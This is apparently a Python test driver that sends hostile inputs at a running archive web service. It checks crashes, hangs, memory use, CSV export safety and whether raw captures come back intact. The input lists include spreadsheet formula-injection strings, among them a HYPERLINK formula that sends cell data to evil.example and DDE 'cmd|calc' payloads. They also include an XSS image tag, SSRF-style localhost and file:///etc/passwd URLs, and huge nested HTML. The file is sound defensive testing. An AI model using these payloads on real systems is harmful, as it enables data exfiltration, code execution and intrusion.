"""Replays generated hostile inputs of each class against a running Archive service and prints, per class, how many were
tried, their outcomes and slowest answer, and overall: 5xx answers, requests past their deadline, jobs that never
settled, uploads whose raw capture did not come back byte for byte, and the service's RSS (baseline, peak, after).
usage: driver.py SERVICE_URL ORIGIN_URL ADMIN_KEY SERVICE_PID"""
import collections, concurrent.futures as cf, csv, hashlib, io, json, random, sys, threading, time, urllib.error, urllib.parse, urllib.request

service, origin, key, pid = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
DEADLINE = 180
stats = collections.defaultdict(lambda: {"tried": 0, "outcomes": collections.Counter(), "slowest": 0.0})
problems = collections.Counter()
uploads = []  # (capture id, sha256 of the html sent)

def rss(field="VmRSS"):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(field):
                return int(line.split()[1]) // 1024
    return -1

def call(method, path, body=None, headers=None, timeout=DEADLINE):
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(service + path, data=data, method=method,
                                 headers={"X-Api-Key": key, "content-type": "application/json", **(headers or {})})
    started = time.monotonic()
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, r.read(), dict(r.headers), time.monotonic() - started
    except urllib.error.HTTPError as e:
        return e.code, e.read(), dict(e.headers), time.monotonic() - started
    except Exception as e:  # timeouts and dropped connections are outcomes too
        return f"error:{type(e).__name__}", b"", {}, time.monotonic() - started

def record(cls, outcome, seconds):
    s = stats[cls]
    s["tried"] += 1
    s["outcomes"][str(outcome)] += 1
    s["slowest"] = max(s["slowest"], seconds)
    if isinstance(outcome, int) and outcome >= 500 or str(outcome).startswith("5"):
        problems["5xx"] += 1
    if str(outcome).startswith("error:"):
        problems["no answer within deadline or connection lost"] += 1

def upload(cls, url, html):
    status, body, _, secs = call("POST", "/api/captures", {"url": url, "html": html})
    outcome = status
    if status == 201:
        uploads.append((json.loads(body)["capture"]["id"], hashlib.sha256(html.encode()).hexdigest()))
    elif status == 422:
        outcome = "422 " + json.loads(body).get("reason", "?")
    record(cls, outcome, secs)

def fetch(cls, path):
    status, body, _, secs = call("POST", "/api/captures", {"url": origin + path, "force": True})
    if status != 202:
        record(cls, status, secs)
        return
    job = json.loads(body)["id"]
    started = time.monotonic()
    while time.monotonic() - started < DEADLINE:
        status, body, _, _ = call("GET", f"/api/captures/{job}")
        state = json.loads(body).get("state") if status == 200 else None
        if state in ("done", "failed"):
            failure = json.loads(body).get("lastError")
            record(cls, state if state == "done" else "failed " + failure["reason"], time.monotonic() - started)
            return
        time.sleep(0.25)
    problems["jobs not settled within deadline"] += 1
    record(cls, "hung", time.monotonic() - started)

def get(cls, path):
    status, _, _, secs = call("GET", path)
    record(cls, status, secs)

baseline = rss()
peak_sampled = [baseline]
sampling = True
def sample():
    while sampling:
        peak_sampled[0] = max(peak_sampled[0], rss())
        time.sleep(0.2)
threading.Thread(target=sample, daemon=True).start()

# depth: by upload (unclosed, closed) and by fetch
for n in (1_000, 10_000, 100_000, 1_000_000):
    upload("depth (upload)", f"https://deep.example/u{n}", "<html><body>" + "<div>" * n + "<p>deep</p></body></html>")
for n in (1_000, 100_000):
    upload("depth (upload)", f"https://deep.example/c{n}", "<html><body>" + "<div>" * n + "<p>deep</p>" + "</div>" * n + "</body></html>")
for n in (1_000, 50_000, 100_000, 800_000):
    fetch("depth (fetch)", f"/deep/{n}")
for tag in ("b", "i", "table", "ul", "svg", "select", "a", "font", "td"):
    upload("depth (upload)", f"https://deep.example/{tag}", "<html><body>" + f"<{tag}>" * 200_000 + "text</body></html>")
# width
for n in (10_000, 100_000, 1_000_000):
    fetch("width (fetch)", f"/wide/{n}")
# size: four ~9.9 MB uploads at once
big = "<html><body><article>" + "".join(f"<p>Paragraph {i} of a very long story about the harbour.</p>" for i in range(180_000))
big = big[: 9_900_000] + "</article></body></html>"
before_size = rss()
with cf.ThreadPoolExecutor(4) as pool:
    list(pool.map(lambda i: upload("size (4 x 9.9 MB at once)", f"https://big.example/{i}", big.replace("harbour", f"harbour {i}", 1)), range(4)))
peak_size = peak_sampled[0]
time.sleep(20)
after_size = rss()
# charsets, by header and by meta
labels = ["utf-7", "UTF-7", "utf-16", "utf-16be", "utf-32", "utf-32le", "ucs-2", "unicode-1-1-utf-7", "ibm037", "cp500", "replacement",
          "iso-2022-kr", "hz-gb-2312", "x-user-defined", "x-no-such", "koi8-r", "windows-1252", "latin1", "gb18030", "shift_jis"]
for where in ("header", "meta"):
    for label in labels:
        fetch("charsets (fetch)", f"/charset/{where}/{urllib.parse.quote(label)}")
fetch("charsets (fetch)", "/utf16")
# header shapes
fetch("header shapes (fetch)", "/short")
for n in (100, 2_000, 8_000):
    fetch("header shapes (fetch)", f"/overflow/{n}")
for enc in ("x-hostile", "zstd", "gzip", "br", "deflate, x-other", "identity, gzip"):
    fetch("header shapes (fetch)", f"/encoding/{urllib.parse.quote(enc)}")
for n in range(10):
    fetch("header shapes (fetch)", f"/ctype/{n}")
# CSV names: formula-shaped outlet names on ten copies of one story, so the audit CSV lists them as republications;
# then every cell of that CSV is checked, and the names must be in it (an empty CSV would prove nothing).
names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|calc!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
         "＝1+1", " =1+1", "=1+1", "Evil <img src=x onerror=alert(1)>"]
words = ("council harbour river budget school storm market bridge election court station museum festival hospital railway "
         "factory farmers teachers minister mayor police report vote plan funding residents library coast winter").split()
rnd = random.Random(10)
story = "".join("<p>" + " ".join(rnd.choice(words) for _ in range(45)).capitalize() + f" (part {i}).</p>" for i in range(8))
for i, name in enumerate(names):
    html = (f"<html><head><meta property=\"og:site_name\" content=\"{name.replace(chr(34), '&quot;')}\"><title>Harbour budget</title>"
            f"<meta property=\"article:published_time\" content=\"2026-11-{i + 1:02d}T08:00:00Z\"></head>"
            f"<body><article><h1>Harbour budget</h1>{story}</article></body></html>")
    upload("CSV names (upload)", f"https://csv{i}.example/story", html)
status, body, _, secs = call("GET", "/api/audit/republications?format=csv")
rows = list(csv.reader(io.StringIO(body.decode("utf-8", "replace"), newline="")))[1:] if status == 200 else []
cells = [c for row in rows for c in row]
bad = [c for c in cells if c.lstrip()[:1] in ("=", "+", "-", "@", "＝") or c[:1] in ("\t", "\r")]
found = [n for n in names if any(c.lstrip("'").strip() == n.strip() for c in cells)]
record("CSV names (upload)", f"csv {status}, {len(rows)} rows, {len(found)} of {len(names)} names, {len(bad)} formula cells", secs)
if bad:
    problems["formula cells in CSV"] += len(bad)
if not rows or not found:
    problems["CSV probe read no hostile names (proves nothing)"] += 1
# URL spellings
urls = ["https://münchen.example/a", "https://例え.テスト/記事", "http://xn--mnchen-3ya.example/ß", "http://127.0.0.1:1/", "http://[::1]/",
        "http://0x7f.0.0.1/", "http://2130706433/", "http://user:pw@example.com/", "javascript:alert(1)", "file:///etc/passwd",
        "http://exa mple.com/", "http://example.com/\u0000", "http://" + "a" * 300 + ".com/", "https://example.com/" + "b" * 5000, "",
        "http://localhost./", "http://[fe80::1%25eth0]/", "ftp://example.com/", "http://example.com:99999/", "//example.com/x"]
for u in urls:
    status, _, _, secs = call("POST", "/api/captures", {"url": u})
    record("URL spellings (submit)", status, secs)
    html = "<html><body><article><p>" + "text " * 100 + "</p></article></body></html>"
    status, body, _, secs = call("POST", "/api/captures", {"url": u, "html": html})
    record("URL spellings (upload)", status, secs)
    if status == 201:
        uploads.append((json.loads(body)["capture"]["id"], hashlib.sha256(html.encode()).hexdigest()))
# parameters
for path in ("/api/publishers?page=2147483647", "/api/publishers?page=21474837&pageSize=200", "/api/audit/republications?page=2147483647",
             "/api/audit/republications?publisher=%00", "/api/audit/republications?source=%00", "/api/search?q=%00",
             "/api/search?q=x&page=2147483647", "/api/articles?url=%00", "/audit?publisher=%00", "/search?q=%00", "/api/publishers?page=-1",
             "/api/publishers?pageSize=99999999999", "/api/captures/00000000-0000-0000-0000-000000000000/raw", "/api/search?q=" + "x" * 10000):
    get("parameters (GET)", path)
# every upload's raw capture comes back byte for byte, served inert
for capture, sha in uploads:
    req = urllib.request.Request(f"{service}/api/captures/{capture}/raw", headers={"X-Api-Key": key})
    try:
        with urllib.request.urlopen(req, timeout=60) as r:
            ok = hashlib.sha256(r.read()).hexdigest() == sha and r.headers.get("Content-Disposition", "").startswith("attachment") \
                and r.headers.get("X-Content-Type-Options") == "nosniff" and "sandbox" in r.headers.get("Content-Security-Policy", "")
    except Exception:
        ok = False
    record("raw captures (read back)", "intact and inert" if ok else "LOST OR UNSAFE", 0)
    if not ok:
        problems["captures lost or served unsafely"] += 1

sampling = False
status, _, _, _ = call("GET", "/health", timeout=10)
alive = status == 200
print(f"{'class':32} {'tried':>5}  {'slowest s':>9}  outcomes")
for cls, s in stats.items():
    print(f"{cls:32} {s['tried']:>5}  {s['slowest']:>9.1f}  " + ", ".join(f"{k} x{v}" for k, v in sorted(s["outcomes"].items())))
print(f"\ntotal tried: {sum(s['tried'] for s in stats.values())}")
print(f"RSS MiB: baseline {baseline}, peak (VmHWM) {rss('VmHWM')}, sampled peak during 4 x 9.9 MB {peak_size} (before {before_size}), "
      f"20 s after {after_size}, at end {rss()}")
print(f"service alive after all: {alive}")
print("problems: " + (", ".join(f"{k}: {v}" for k, v in problems.items()) if problems else "none"))
sys.exit(0 if alive and not problems else 1)
